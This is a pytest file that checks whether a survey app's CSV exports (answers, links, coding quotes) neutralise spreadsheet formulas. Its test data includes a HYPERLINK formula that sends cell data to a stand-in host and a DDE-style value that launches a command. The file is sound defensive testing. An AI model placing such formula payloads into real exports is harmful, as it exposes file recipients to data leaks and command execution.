"""Downloads meant for spreadsheets neutralise formula-like answers (issue 9, item 5)."""

from __future__ import annotations

import csv
import io

import pytest

from samspil.fieldwork import actions

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=","))


def test_answers_and_links_downloads_neutralise_formulas(researcher_client, study):
    a = study.respondents.order_by("row_number").first()
    actions.do_save_page(
        a, actions.PageSave({"udf_vigtigste": FORMULA, "udf_by": 4.0}, "civilsamfund", 1)
    )
    a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    a.save(update_fields=["name"])
    answers = researcher_client.get(f"/studier/{study.pk}/svar.csv").content.decode()
    header, row = _rows(answers)[:2]
    assert row[header.index("udf_vigtigste")] == "'" + FORMULA
    assert row[header.index("udf_by")] == "4"  # numbers stay numbers
    named = researcher_client.get(f"/studier/{study.pk}/svar.csv?identifiers=1").content.decode()
    header, row = _rows(named)[:2]
    assert row[header.index("name")] == "'" + a.name
    links = researcher_client.get(f"/studier/{study.pk}/links.csv").content.decode()
    assert "'" + a.name in [r[1] for r in _rows(links)]
    excel = researcher_client.get(f"/studier/{study.pk}/svar.csv?excel=1").content.decode()
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in excel


def test_coding_downloads_neutralise_formulas(client, researcher, django_user_model):
    from samspil.coding_web import actions as coding

    coders = tuple(
        django_user_model.objects.create_user(name, password="x-9876543") for name in ("k1", "k2")
    )
    text = f'respondent_id,udf_vigtigste\n101,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
    project = coding.do_create_project_from_file(
        "P", "kd2024", "svar.csv", text.encode(), coders=coders, researchers=[researcher]
    )
    unit = project.units.get()
    for coder in coders:
        coding.do_save_coding(project, unit, coder, ["arbejdskraft"], quotable=True)
    client.force_login(researcher)
    quotes = client.get(f"/kodning/{project.pk}/citater.csv").content.decode()
    assert _rows(quotes)[1] == ["101", "udf_vigtigste", "'" + FORMULA]
